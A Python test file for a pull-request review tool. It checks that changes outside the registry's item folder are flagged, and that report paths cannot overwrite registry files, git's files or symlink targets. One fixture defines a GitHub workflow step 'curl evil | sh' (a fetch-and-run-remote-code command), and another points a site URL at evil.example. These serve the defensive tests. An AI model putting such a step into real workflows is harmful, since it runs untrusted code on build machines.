"""What a hostile pull request could slip past the review: files beside the items that the verdict
must not call trivially safe, and report paths that would overwrite the registry, git's own files or
whatever a committed link points at."""

from __future__ import annotations

from pathlib import Path

import pytest

from prereq import cli
from prereq.review.impact import SHOWN_PATHS
from prereq.review.review import review
from review_helpers import item, make_pr

STORAGE = item("storage", command="mount server:/share /mnt")
DOCS = item("storage", command="mount server:/share /mnt", extra="description: Where the share is.\n")
HOOKS = "site_name: x\nhooks:\n  - hooks.py\n"
WORKFLOW = "on: pull_request\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil | sh\n"


def _pr(tmp_path: Path, *, beside: dict[str, str], commit: bool = True):
    """main: storage and a prereq.yaml; pr: a docs-only change to storage, and ``beside`` (paths from
    the repository's root) written too."""
    repo = make_pr(tmp_path / "repo", {"prerequisites/storage.yaml": STORAGE}, {}, commit_head=False)
    repo.git("checkout", "-q", "main")
    repo.write("prereq.yaml", "title: Registry\n")
    repo.commit("settings")
    repo.git("checkout", "-q", "pr")
    repo.git("merge", "-q", "--ff-only", "main")
    (repo.root / "registry" / "prerequisites" / "storage.yaml").write_text(DOCS, encoding="utf-8")
    for rel, text in beside.items():
        (repo.root / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo.root / rel).write_text(text, encoding="utf-8")
    if commit:
        repo.commit("the pull request", date="2026-02-01T00:00:00+00:00")
    return repo


def test_a_docs_only_change_alone_is_trivially_safe(tmp_path: Path) -> None:
    reviewed = review(_pr(tmp_path, beside={}).root / "registry", base="main", author="alice")
    assert reviewed.impact.trivially_safe, reviewed.impact.reasons
    assert reviewed.impact.outside == []


@pytest.mark.parametrize(
    "beside",
    [
        {"mkdocs.yml": HOOKS, "hooks.py": "import os\n"},
        {".github/workflows/steal.yml": WORKFLOW},
        {"prereq.yaml": "title: Registry\nsite_url: https://evil.example\n"},
        {"site/index.md": "# hello\n"},
        {"registry/templates/job.yaml": "protocolVersion: 2\nname: job\ntype: job\ntaskRoles: {}\n"},
        {"README.md": "anything\n"},
    ],
    ids=["mkdocs-hooks", "workflow", "prereq-yaml", "site-page", "template", "anything"],
)
def test_any_file_beside_the_items_needs_a_review_naming_it(tmp_path: Path, beside: dict[str, str]) -> None:
    for commit in (True, False):  # committed, or only in the working tree (untracked or modified)
        repo = _pr(tmp_path / str(commit), beside=beside, commit=commit)
        reviewed = review(repo.root / "registry", base="main", author="alice")
        assert not reviewed.impact.trivially_safe, beside
        assert reviewed.impact.outside == sorted(beside)
        (reason,) = [r for r in reviewed.impact.reasons if "outside the item folder" in r]
        assert all(path in reason for path in beside), reason
        assert reviewed.as_dict()["outside_registry_items"] == sorted(beside)


def test_a_deleted_file_beside_the_items_counts_too(tmp_path: Path) -> None:
    repo = _pr(tmp_path, beside={}, commit=False)
    (repo.root / "prereq.yaml").unlink()
    reviewed = review(repo.root / "registry", base="main", author="alice")
    assert reviewed.impact.outside == ["prereq.yaml"] and not reviewed.impact.trivially_safe


def test_the_paths_named_are_capped(tmp_path: Path) -> None:
    beside = {f"docs/page{number:02}.md": "x\n" for number in range(SHOWN_PATHS + 5)}
    reviewed = review(_pr(tmp_path, beside=beside).root / "registry", base="main", author="alice")
    (reason,) = [r for r in reviewed.impact.reasons if "outside the item folder" in r]
    assert reason.startswith(f"{SHOWN_PATHS + 5} files changed outside the item folder")
    assert reason.endswith("docs/page09.md and 5 more") and "page10" not in reason


def test_ignored_files_are_not_the_pull_requests(tmp_path: Path) -> None:
    repo = _pr(tmp_path, beside={".gitignore": "build/\n"})
    (repo.root / "build").mkdir()
    (repo.root / "build" / "impact.md").write_text("an earlier report\n", encoding="utf-8")
    reviewed = review(repo.root / "registry", base="main", author="alice")
    assert reviewed.impact.outside == [".gitignore"]


@pytest.fixture
def pr(tmp_path: Path):
    repo = make_pr(tmp_path / "repo", {"prerequisites/storage.yaml": STORAGE}, {"prerequisites/storage.yaml": DOCS})
    (tmp_path / "outside").write_text("precious\n", encoding="utf-8")
    return repo


@pytest.mark.parametrize(
    "report", ["registry/prerequisites/storage.yaml", "registry/owners.yaml", "registry/new.md", ".git/config"]
)
def test_the_report_is_never_written_into_the_registry_or_git(pr, report: str, capsys, monkeypatch) -> None:
    monkeypatch.chdir(pr.root)
    before = (pr.root / report).read_bytes() if (pr.root / report).exists() else None
    assert cli.main(["validate", "--base", "main", "--report", report]) == 2
    err = capsys.readouterr().err
    assert f"prereq: error: --report {report} lies inside" in err and "hint: write it outside" in err
    assert ((pr.root / report).read_bytes() if (pr.root / report).exists() else None) == before


def test_the_report_is_never_written_through_a_committed_link(pr, tmp_path: Path, capsys, monkeypatch) -> None:
    (pr.root / "impact.md").symlink_to("../outside")
    (pr.root / "reports").symlink_to(tmp_path, target_is_directory=True)
    pr.commit("planted links")
    monkeypatch.chdir(pr.root)
    for report in ("impact.md", "reports/outside", "reports/new.md"):
        assert cli.main(["validate", "--base", "main", "--report", report]) == 2, report
        err = capsys.readouterr().err
        assert "is a symbolic link" in err and "hint:" in err, err
    assert (tmp_path / "outside").read_text(encoding="utf-8") == "precious\n"
    assert not (tmp_path / "new.md").exists()


def test_a_report_outside_the_repository_is_written(pr, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(pr.root)
    assert cli.main(["validate", "--base", "main", "--report", str(tmp_path / "impact.md")]) == 0
    assert (tmp_path / "impact.md").read_text(encoding="utf-8").startswith("## prereq review")
    assert cli.main(["validate", "--base", "main", "--report", "impact.md"]) == 0, "the checkout's own file"
